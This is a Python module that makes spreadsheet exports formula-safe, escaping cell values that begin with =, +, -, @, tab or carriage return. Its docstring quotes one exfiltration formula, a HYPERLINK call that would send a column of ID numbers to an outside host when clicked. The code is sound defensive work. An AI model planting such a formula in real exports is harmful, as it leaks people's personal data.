"""Spreadsheets people open safely: no cell a user typed becomes a formula.

A value starting with =, +, -, @, a tab or a carriage return is what Excel, WPS and LibreOffice
read as a formula (`=HYPERLINK("http://…?"&E4)` would send column E, the ID numbers, away on a
click). Every export saves through `workbook_bytes()` (Excel) or writes rows through `csv_row()`
(CSV), which keep such values as text."""

from __future__ import annotations

import io

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def make_formula_safe(workbook) -> int:
    """Turn every formula cell of `workbook` into text shown as typed (Excel's quote prefix: the
    value is not evaluated, not even after editing the cell). Returns how many cells it changed.
    The exports write no formulas of their own, so every formula cell came from a value."""
    changed = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or looks_like_formula(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
                    changed += 1
    return changed


def workbook_bytes(workbook) -> bytes:
    """The .xlsx file of `workbook`, formula-safe."""
    make_formula_safe(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_cell(value):
    """A CSV cell that no spreadsheet evaluates: a leading apostrophe before a formula trigger."""
    return f"'{value}" if looks_like_formula(value) else value


def csv_row(values) -> list:
    return [csv_cell(value) for value in values]
